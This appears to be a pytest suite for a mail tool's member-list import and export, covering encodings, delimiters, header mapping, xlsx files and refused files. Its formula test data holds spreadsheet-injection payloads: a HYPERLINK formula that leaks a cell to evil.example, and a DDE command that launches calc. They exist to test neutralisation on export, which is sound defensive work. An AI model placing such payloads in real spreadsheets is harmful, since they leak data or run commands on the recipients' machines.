"""Member lists as office managers really have them: encodings, delimiters, headers, xlsx, refusals, safe export."""

from __future__ import annotations

import csv
import importlib.util
import io
import os
from dataclasses import dataclass, field
from pathlib import Path
from types import ModuleType

import pytest

from mailwizard.core.members.header_mapping import HEADER_ALIASES, guess_mapping, to_members
from mailwizard.core.members.model import FIELDS, Member
from mailwizard.core.members.raw_table import RawTable, UnreadableFile
from mailwizard.core.members.reading import read_table
from mailwizard.core.members.writing import neutralise, unneutralise, write_members_csv, write_template

CORPUS = Path(__file__).resolve().parents[1] / "data" / "members"


def _generator() -> ModuleType:
    spec = importlib.util.spec_from_file_location("make_corpus", CORPUS / "make_corpus.py")
    assert spec is not None and spec.loader is not None
    module = importlib.util.module_from_spec(spec)
    spec.loader.exec_module(module)
    return module


make_corpus = _generator()

ALL7 = {"display_name": 0, "local_part": 1, "personal_email": 2, "phone": 3, "department": 4, "job_title": 5,
        "quota_gb": 6}


@dataclass
class Case:
    name: str
    encoding: str | None
    delimiter: str | None
    mapping: dict[str, int]
    rows: int
    # (member index, field) → expected value, after to_members with domain example.com (or `domain`)
    values: dict[tuple[int, str], str] = field(default_factory=dict)
    domain: str | None = "example.com"


READABLE = [
    Case("utf8_comma_en.csv", "utf-8", ",", ALL7, 3,
         {(0, "display_name"): "Zhang Wei", (0, "personal_email"): "zhangwei@example.net", (1, "quota_gb"): "10",
          (2, "personal_email"): "", (2, "job_title"): "Assistant"}),
    Case("utf8bom_comma_zh.csv", "utf-8-sig", ",", {**ALL7, "permissions": 7}, 3,
         {(0, "display_name"): "张伟", (0, "department"): "销售部", (0, "permissions"): "user_admin",
          (1, "permissions"): "user", (2, "permissions"): "user", (2, "job_title"): "行政助理"}),
    Case("gbk_comma_zh.csv", "gb18030", ",",
         {"display_name": 0, "local_part": 1, "phone": 2, "department": 3, "job_title": 4}, 4,
         {(0, "display_name"): "刘洋", (1, "job_title"): "市场专员", (3, "display_name"): "王喆",
          (3, "phone"): "13200132000"}),
    Case("big5_comma_zh_tw.csv", "big5", ",",
         {"display_name": 0, "local_part": 1, "department": 2, "phone": 3, "job_title": 4}, 3,
         {(0, "display_name"): "陳大文", (0, "department"): "業務部", (0, "phone"): "0912345678",
          (2, "display_name"): "黃志明", (1, "job_title"): "會計師"}),
    Case("utf16le_tab_excel_unicode.txt", "utf-16", "\t",
         {"display_name": 0, "local_part": 1, "department": 2, "phone": 3, "job_title": 4}, 2,
         {(0, "display_name"): "周杰", (1, "department"): "设计部", (1, "phone"): "13000130000"}),
    Case("semicolon_cp1252_eu.csv", "cp1252", ";",
         {"display_name": 0, "local_part": 1, "department": 2, "phone": 3, "quota_gb": 4}, 3,
         {(0, "display_name"): "Müller, Jürgen", (1, "department"): "Comptabilité", (0, "quota_gb"): "1,5",
          (2, "phone"): "+34 912 345 678"}),
    Case("tab_separated.tsv", "utf-8", "\t",
         {"display_name": 0, "local_part": 1, "phone": 2, "department": 3, "job_title": 4}, 2,
         {(0, "department"): "Sales, East", (1, "display_name"): "Li Na"}),
    Case("pipe_separated.txt", "utf-8", "|",
         {"display_name": 0, "local_part": 1, "phone": 2, "department": 3, "job_title": 4}, 3,
         {(2, "local_part"): "wang.fang", (2, "job_title"): "Clerk"}),
    Case("mixed_languages.csv", "utf-8", ",",
         {"display_name": 0, "local_part": 1, "department": 2, "phone": 3, "job_title": 4, "personal_email": 5}, 2,
         {(1, "display_name"): "陳美玲", (1, "department"): "會計部", (0, "personal_email"): "zw@example.net"}),
    Case("messy_headers.csv", "utf-8-sig", ",", {"display_name": 0, "local_part": 1, "phone": 2, "department": 3,
                                                 "job_title": 4, "quota_gb": 5, "personal_email": 6}, 2,
         {(0, "display_name"): "张伟", (0, "local_part"): "zhang.wei", (0, "quota_gb"): "5"}),
    Case("missing_email_column.csv", "utf-8-sig", ",", {"display_name": 0, "department": 1, "phone": 2}, 3,
         {(2, "display_name"): "欧阳娜娜", (2, "local_part"): ""}),
    Case("names_only.csv", "utf-8", None, {"display_name": 0}, 4,
         {(0, "display_name"): "张伟", (3, "display_name"): "Smith, John"}),
    Case("duplicate_addresses.csv", "utf-8", ",", {"display_name": 0, "local_part": 1}, 4,
         {(0, "local_part"): "zhang.wei", (1, "local_part"): "zhang.wei", (3, "local_part"): "Li.Na"}),
    Case("blank_lines.csv", "utf-8", ",", {"display_name": 0, "local_part": 1, "department": 2}, 2,
         {(1, "display_name"): "Li Na"}),
    Case("formulas.csv", "utf-8", ",", {"display_name": 0, "local_part": 1, "department": 2, "job_title": 3}, 3,
         {(0, "display_name"): '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
          (0, "job_title"): "+cmd|' /C calc'!A0", (1, "department"): "-2+3", (1, "job_title"): "@SUM(1+1)",
          (2, "department"): "=1+1"}),
    Case("long_values.csv", "utf-8", ",", {"display_name": 0, "local_part": 1, "department": 2}, 2,
         {(0, "display_name"): make_corpus.LONG_NAME, (0, "department"): make_corpus.LONG_DEPARTMENT}),
    Case("quoted_fields.csv", "utf-8", ",", {"display_name": 0, "local_part": 1, "department": 2, "job_title": 3}, 3,
         {(0, "display_name"): "Smith, John", (0, "job_title"): 'He said "hi"', (0, "department"): "Sales, East",
          (1, "display_name"): "O'Brien, Mary", (1, "department"): "Line one\r\nLine two"}),
    Case("phones.csv", "utf-8", ",", {"display_name": 0, "phone": 1}, 6,
         {(0, "phone"): "013800138000", (1, "phone"): "+86 139 0013 9000", (2, "phone"): "+8613700137000",
          (3, "phone"): "0755-86001234", (4, "phone"): "(010) 6552 9988", (5, "phone"): "008613600136000"}),
    Case("full_addresses.csv", "utf-8", ",", {"display_name": 0, "local_part": 1, "personal_email": 2}, 6,
         {(0, "local_part"): "zhang.wei", (0, "personal_email"): "zw@example.net", (1, "local_part"): "LI.NA",
          (2, "local_part"): "wang.fang@other.example", (3, "local_part"): "zhao.lei",
          (4, "local_part"): "chen.jing", (5, "local_part"): "liu.yang"}),
    Case("idn_addresses.csv", "utf-8", ",", {"display_name": 0, "local_part": 1}, 4,
         {(0, "local_part"): "张伟", (1, "local_part"): "li.na", (2, "local_part"): "王芳",
          (3, "local_part"): "liu.yang@例子.公司"}, domain="例子.中国"),
    Case("crlf_utf8.csv", "utf-8", ",", {"display_name": 0, "local_part": 1, "department": 2}, 2,
         {(0, "department"): "Sales", (1, "department"): "Finance"}),
    Case("trailing_empty_columns.csv", "utf-8", ",", {"display_name": 0, "local_part": 1, "phone": 2}, 2,
         {(1, "phone"): "13900139000"}),
    Case("title_row_zh.csv", "utf-8-sig", ",", {"display_name": 0, "local_part": 1, "department": 2, "phone": 3}, 2,
         {(0, "display_name"): "张伟", (1, "department"): "财务部"}),
    Case("excel_sep_line.csv", "utf-8", ";", {"display_name": 0, "local_part": 1, "phone": 2}, 2,
         {(1, "phone"): "13900139000"}),
    Case("xlsx_zh_numeric_phone.xlsx", None, None,
         {"display_name": 0, "local_part": 1, "phone": 2, "department": 3, "quota_gb": 4}, 3,
         {(0, "phone"): "13800138000", (1, "phone"): "13900139000", (2, "phone"): "02112345678",
          (0, "quota_gb"): "5", (1, "quota_gb"): "2.5", (0, "display_name"): "张伟", (2, "department"): "行政部"}),
    Case("xlsx_second_sheet.xlsx", None, None, {"display_name": 0, "local_part": 1, "department": 2}, 2,
         {(0, "display_name"): "张伟", (1, "department"): "财务部"}),
    Case("xlsx_header_row2.xlsx", None, None, {"display_name": 0, "local_part": 1, "phone": 2, "department": 3}, 2,
         {(0, "phone"): "+86 138 0013 8000", (1, "phone"): "13900139000", (1, "department"): ""}),
]

UNREADABLE = [
    ("empty.csv", "import.empty", {}),
    ("header_only.csv", "import.empty", {}),
    ("xlsx_headers_only.xlsx", "import.empty", {}),
    ("old_binary.xls", "import.not_spreadsheet", {"hint": "save as .xlsx or .csv"}),
    ("encrypted.xlsx", "import.password_protected", {}),
    ("zip_not_xlsx.xlsx", "import.not_spreadsheet", {"hint": "save as .xlsx or .csv"}),
    ("prose.txt", "import.not_spreadsheet", {"hint": "save as .xlsx or .csv"}),
    ("unclosed_quote.csv", "import.unclosed_quote", {"line": "3"}),   # not one person made of three
]


# ------------------------------------------------------------------------------------------------------ the corpus

def test_the_corpus_is_complete_and_matches_its_generator(tmp_path: Path) -> None:
    committed = sorted(p.name for p in CORPUS.iterdir() if p.is_file() and p.suffix != ".py")
    assert len(committed) >= 28
    assert committed == sorted(make_corpus.FILES)
    assert {c.name for c in READABLE} | {u[0] for u in UNREADABLE} == set(committed)
    make_corpus.write_all(tmp_path)
    for name in committed:
        assert (tmp_path / name).read_bytes() == (CORPUS / name).read_bytes(), f"{name}: rerun make_corpus.py"


@pytest.mark.parametrize("case", READABLE, ids=lambda c: c.name)
def test_reads_the_corpus(case: Case) -> None:
    table = read_table(CORPUS / case.name)
    assert table.encoding == case.encoding
    assert table.delimiter == case.delimiter
    mapping = guess_mapping(table.headers)
    assert mapping == case.mapping
    assert len(table.rows) == case.rows
    assert all(len(cells) == len(table.headers) for _n, cells in table.rows)
    assert all(h == h.strip() and "\ufeff" not in h for h in table.headers)
    members = [m for _n, m in to_members(table, mapping, case.domain)]
    assert len(members) == case.rows
    for (index, fid), expected in case.values.items():
        assert getattr(members[index], fid) == expected, (index, fid)


@pytest.mark.parametrize(("name", "key", "params"), UNREADABLE, ids=[u[0] for u in UNREADABLE])
def test_refuses_what_is_not_a_member_list(name: str, key: str, params: dict[str, str]) -> None:
    with pytest.raises(UnreadableFile) as caught:
        read_table(CORPUS / name)
    assert caught.value.key == key
    assert caught.value.params == params


def test_a_workbook_whose_people_are_on_a_later_sheet_is_read_from_there() -> None:
    table = read_table(CORPUS / "xlsx_second_sheet.xlsx")
    assert table.sheet == "员工" and table.headers == ["姓名", "邮箱", "部门"]
    assert [cells[0] for _n, cells in table.rows] == ["张伟", "李娜"]
    assert read_table(CORPUS / "xlsx_zh_numeric_phone.xlsx").sheet is None  # the first sheet: nothing to say


def test_rows_carry_the_line_they_start_on() -> None:
    assert [n for n, _c in read_table(CORPUS / "blank_lines.csv").rows] == [3, 6]
    assert [n for n, _c in read_table(CORPUS / "quoted_fields.csv").rows] == [2, 3, 5]   # row 3 spans lines 3-4
    assert [n for n, _c in read_table(CORPUS / "title_row_zh.csv").rows] == [3, 4]
    assert [n for n, _c in read_table(CORPUS / "xlsx_header_row2.xlsx").rows] == [3, 4]  # sheet rows


def test_messy_headers_are_cleaned_but_kept_as_written() -> None:
    table = read_table(CORPUS / "messy_headers.csv")
    assert table.headers == ["姓 名", "Ｅｍａｉｌ", "手机号码：", "部门（必填）", "Job Title", "Ｑｕｏｔａ（GB）",
                             "个人邮箱*"]
    assert table.rows[0][1][:2] == ["张伟", "zhang.wei"]      # spaces and an ideographic space stripped


def test_xlsx_cells_read_as_the_user_sees_them() -> None:
    table = read_table(CORPUS / "xlsx_zh_numeric_phone.xlsx")
    assert table.headers[5] == "入职日期"
    assert [cells[5] for _n, cells in table.rows] == ["2024-03-01", "2024-03-15 09:30:00", ""]
    assert all("e+" not in cell.lower() for _n, cells in table.rows for cell in cells)


def test_ten_thousand_rows(tmp_path: Path) -> None:
    path = make_corpus.write_big(tmp_path / "big.csv", rows=10_000)
    table = read_table(path)
    assert table.encoding == "utf-8-sig" and table.delimiter == ","
    assert len(table.rows) == 10_000
    members = to_members(table, guess_mapping(table.headers), "example.com")
    assert len(members) == 10_000
    line, last = members[-1]
    assert line == 10_001
    assert (last.display_name, last.local_part, last.phone) == ("员工09999", "user09999", "13800009999")


def test_more_than_twenty_thousand_rows_is_too_large(tmp_path: Path) -> None:
    with pytest.raises(UnreadableFile) as caught:
        read_table(make_corpus.write_big(tmp_path / "huge.csv", rows=20_001))
    assert caught.value.key == "import.too_large"
    assert read_table(make_corpus.write_big(tmp_path / "limit.csv", rows=20_000)).rows[-1][0] == 20_001


# --------------------------------------------------------------------------------------------- other odd files

def test_a_missing_file_is_said_to_be_gone_not_open_elsewhere(tmp_path: Path) -> None:
    # moved or deleted between choosing it and reading it: "open in another program" sent people hunting
    with pytest.raises(UnreadableFile) as caught:
        read_table(tmp_path / "gone.csv")
    assert caught.value.key == "import.missing" and caught.value.params == {"file": "gone.csv"}


@pytest.mark.parametrize("name", ["list.docx", "list.pdf", "list.ods", "list.numbers"])
def test_other_formats_are_not_spreadsheets(tmp_path: Path, name: str) -> None:
    path = tmp_path / name
    path.write_bytes(b"anything")
    with pytest.raises(UnreadableFile) as caught:
        read_table(path)
    assert caught.value.key == "import.not_spreadsheet"


def test_ole_files(tmp_path: Path) -> None:
    """An old binary workbook is refused with a hint; an Office-encrypted package says so, whatever its name."""
    old = tmp_path / "old.xls"
    old.write_bytes(make_corpus.OLE_MAGIC + bytes(1000))
    with pytest.raises(UnreadableFile) as caught:
        read_table(old)
    assert (caught.value.key, caught.value.params) == ("import.not_spreadsheet", {"hint": "save as .xlsx or .csv"})
    encrypted = tmp_path / "renamed.xls"
    encrypted.write_bytes(make_corpus.OLE_MAGIC + bytes(100) + "EncryptedPackage".encode("utf-16-le") + bytes(100))
    with pytest.raises(UnreadableFile) as caught:
        read_table(encrypted)
    assert caught.value.key == "import.password_protected"


def test_an_xlsx_renamed_to_csv_is_still_read(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_bytes((CORPUS / "xlsx_zh_numeric_phone.xlsx").read_bytes())
    table = read_table(path)
    assert table.encoding is None and table.rows[0][1][0] == "张伟"


def test_utf16_without_bom(tmp_path: Path) -> None:
    path = tmp_path / "list.txt"
    path.write_bytes("姓名\t邮箱\r\n张伟\tzhang.wei\r\n".encode("utf-16-le"))
    table = read_table(path)
    assert (table.encoding, table.delimiter, table.rows[0][1]) == ("utf-16-le", "\t", ["张伟", "zhang.wei"])


def test_binary_junk_named_csv(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_bytes(bytes(range(256)) * 8)
    with pytest.raises(UnreadableFile) as caught:
        read_table(path)
    assert caught.value.key == "import.not_spreadsheet"


def test_whitespace_only_file_is_empty(tmp_path: Path) -> None:
    path = tmp_path / "list.csv"
    path.write_bytes(b"\xef\xbb\xbf\r\n  \r\n,,,\r\n")
    with pytest.raises(UnreadableFile) as caught:
        read_table(path)
    assert caught.value.key == "import.empty"


# ----------------------------------------------------------------------------------------------------- mapping

@pytest.mark.parametrize(("headers", "expected"), [
    (["Name", "E-mail", "Mobile", "Dept", "Position", "Mailbox size"],
     {"display_name": 0, "local_part": 1, "phone": 2, "department": 3, "job_title": 4, "quota_gb": 5}),
    (["First name", "Last name", "Username", "Private email", "Cell", "Storage"],
     {"given_name": 0, "family_name": 1, "local_part": 2, "personal_email": 3, "phone": 4, "quota_gb": 5}),
    (["姓", "名", "企业邮箱", "私人邮箱", "联系电话", "岗位", "邮箱容量", "权限"],
     {"family_name": 0, "given_name": 1, "local_part": 2, "personal_email": 3, "phone": 4, "job_title": 5,
      "quota_gb": 6, "permissions": 7}),
    (["顯示名稱", "帳號", "個人電子郵件", "聯絡電話", "部門", "職務", "信箱容量", "權限"],
     {"display_name": 0, "local_part": 1, "personal_email": 2, "phone": 3, "department": 4, "job_title": 5,
      "quota_gb": 6, "permissions": 7}),
    (["员工姓名", "手机号码", "所在部门", "个人邮箱地址", "公司邮箱地址"],
     {"display_name": 0, "phone": 1, "department": 2, "personal_email": 3, "local_part": 4}),
    (["姓名 Name", "Email 邮箱", "Personal email 个人邮箱"],
     {"display_name": 0, "local_part": 1, "personal_email": 2}),
    (["Email", "Email"], {"local_part": 0}),                    # each field once
    (["邮箱", "邮箱容量"], {"local_part": 0, "quota_gb": 1}),    # exact beats "contains"
    (["Home address", "Notes", ""], {}),                         # nothing we know
])
def test_guess_mapping(headers: list[str], expected: dict[str, int]) -> None:
    assert guess_mapping(headers) == expected


def test_every_alias_maps_to_its_own_field() -> None:
    assert set(HEADER_ALIASES) == set(FIELDS)
    for fid, aliases in HEADER_ALIASES.items():
        for alias in aliases:
            assert alias == alias.lower()
            assert guess_mapping([alias]) == {fid: 0}, alias


def test_to_members_address_forms() -> None:
    table = RawTable("utf-8", ",", ["Email"], [
        (2, ["zhang.wei@EXAMPLE.com"]), (3, ["zhang.wei@例子.中国"]), (4, ["zhang.wei@xn--fsqu00a.xn--fiqs8s"]),
        (5, ["zhang.wei＠example.com"]), (6, ["@example.com"]), (7, [""]),
    ])
    assert [m.local_part for _n, m in to_members(table, {"local_part": 0}, "example.com")] == [
        "zhang.wei", "zhang.wei@例子.中国", "zhang.wei@xn--fsqu00a.xn--fiqs8s", "zhang.wei", "@example.com"]
    assert [m.local_part for _n, m in to_members(table, {"local_part": 0}, "XN--FSQU00A.xn--fiqs8s")][1:3] == [
        "zhang.wei", "zhang.wei"]
    assert to_members(table, {"local_part": 0}, None)[0][1].local_part == "zhang.wei@EXAMPLE.com"


def test_to_members_skips_rows_empty_in_mapped_columns() -> None:
    table = RawTable("utf-8", ",", ["Name", "Notes"], [(2, ["", "only a note"]), (3, ["Zhang Wei", ""])])
    assert [(n, m.display_name) for n, m in to_members(table, {"display_name": 0}, None)] == [(3, "Zhang Wei")]


# ------------------------------------------------------------------------------------------------------ export

DANGEROUS = ["=1+1", "+86 138", "-2+3", "@SUM(A1)", "\tcmd", "\rcmd", "＝1+1", "  =1+1"]


@pytest.mark.parametrize("value", DANGEROUS, ids=repr)
def test_neutralise_every_dangerous_prefix(value: str) -> None:
    assert neutralise(value) == "'" + value
    assert unneutralise(neutralise(value)) == value


@pytest.mark.parametrize("value", ["Zhang Wei", "张伟", "", "a=b", "'quoted", "13800138000", "o'brien@x"])
def test_neutralise_leaves_safe_cells_alone(value: str) -> None:
    assert neutralise(value) == value
    assert unneutralise(value) == value


def test_neutralise_an_apostrophe_before_a_formula_round_trips() -> None:
    assert neutralise("'=1") == "''=1"
    assert unneutralise("''=1") == "'=1"


def _members() -> list[Member]:
    return [
        Member("张伟", "张", "伟", "zhang.wei", "zw@example.net", "013800138000", "销售部, 华东", "经理", "5",
               "user_admin", aliases="zw, wei.zhang"),
        Member("=HYPERLINK(\"http://evil.example\",\"x\")", "", "", "bob", "", "+86 139 0013 9000", "-2+3",
               "@SUM(1+1)", "", "user", aliases="-bobby"),
        Member("O'Brien, \"Mary\"", "O'Brien", "Mary", "mary", "", "", "Line one\nLine two", "\tTabbed", "", "user"),
        Member("No address", "", "", "", "", "", "", "", "", "user"),
        Member("Other domain", "", "", "x@other.example", "", "", "", "", "", "user"),
    ]


@pytest.mark.parametrize("domain", ["example.com", "例子.中国"])
def test_export_round_trip(tmp_path: Path, domain: str) -> None:
    path = tmp_path / "members.csv"
    members = _members()
    write_members_csv(path, members, domain)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert raw.split(b"\r\n", 1)[0].decode("utf-8-sig") == (
        "Display name,Family name,Given name,Email address,Aliases,Personal email,Phone,Department,Job title,"
        "Quota (GB),Permissions")
    table = read_table(path)
    assert (table.encoding, table.delimiter) == ("utf-8-sig", ",")
    mapping = guess_mapping(table.headers)
    assert mapping == {fid: i for i, fid in enumerate(FIELDS)}
    assert [m for _n, m in to_members(table, mapping, domain)] == members


def test_export_writes_full_addresses_and_neutralised_cells(tmp_path: Path) -> None:
    path = tmp_path / "members.csv"
    write_members_csv(path, _members(), "example.com")
    rows = list(csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")))
    assert rows[1][3] == "zhang.wei@example.com"
    assert rows[4][3] == ""
    assert rows[2][0] == "'=HYPERLINK(\"http://evil.example\",\"x\")"
    assert rows[2][4] == "'-bobby"
    assert rows[1][4] == "zw, wei.zhang"
    assert rows[2][6:9] == ["'+86 139 0013 9000", "'-2+3", "'@SUM(1+1)"]
    assert rows[3][8] == "'\tTabbed"
    assert rows[1][6] == "013800138000"
    for row in rows[1:]:
        assert not any(cell[:1] in ("=", "+", "-", "@", "\t", "\r") for cell in row)


def test_export_of_the_formula_corpus_is_neutralised(tmp_path: Path) -> None:
    table = read_table(CORPUS / "formulas.csv")
    members = [m for _n, m in to_members(table, guess_mapping(table.headers), "example.com")]
    path = tmp_path / "out.csv"
    write_members_csv(path, members, "example.com")
    cells = [c for row in csv.reader(io.StringIO(path.read_text(encoding="utf-8-sig"), newline="")) for c in row]
    assert not any(c[:1] in "=+-@\t\r" and c for c in cells)
    assert "'=1+1" in cells and "'@SUM(1+1)" in cells


def test_export_replaces_atomically(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    path = tmp_path / "members.csv"
    path.write_text("old", encoding="utf-8")
    write_members_csv(path, _members()[:1], "example.com")
    assert path.read_text(encoding="utf-8-sig").startswith("Display name")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["members.csv"]

    def fail(src: str, dst: str) -> None:
        raise OSError("disk full")

    monkeypatch.setattr(os, "replace", fail)
    with pytest.raises(OSError):
        write_members_csv(path, _members(), "example.com")
    assert path.read_text(encoding="utf-8-sig").startswith("Display name")
    assert len(path.read_text(encoding="utf-8-sig").splitlines()) == 2
    assert sorted(p.name for p in tmp_path.iterdir()) == ["members.csv"]


def test_template(tmp_path: Path) -> None:
    path = tmp_path / "template.csv"
    write_template(path)
    assert path.read_bytes().startswith(b"\xef\xbb\xbf")
    table = read_table(path)
    assert table.headers[0] == "姓名 Name"
    assert all(any("\u4e00" <= ch <= "\u9fff" for ch in h) and any(ch.isascii() and ch.isalpha() for ch in h)
               for h in table.headers)
    mapping = guess_mapping(table.headers)
    assert len(mapping) == len(table.headers)
    members = to_members(table, mapping, "example.com")
    assert [(n, m.display_name, m.local_part) for n, m in members] == [(2, "张伟", "zhang.wei"), (3, "Li Na", "li.na")]
    assert members[1][1].permissions == "user_admin"
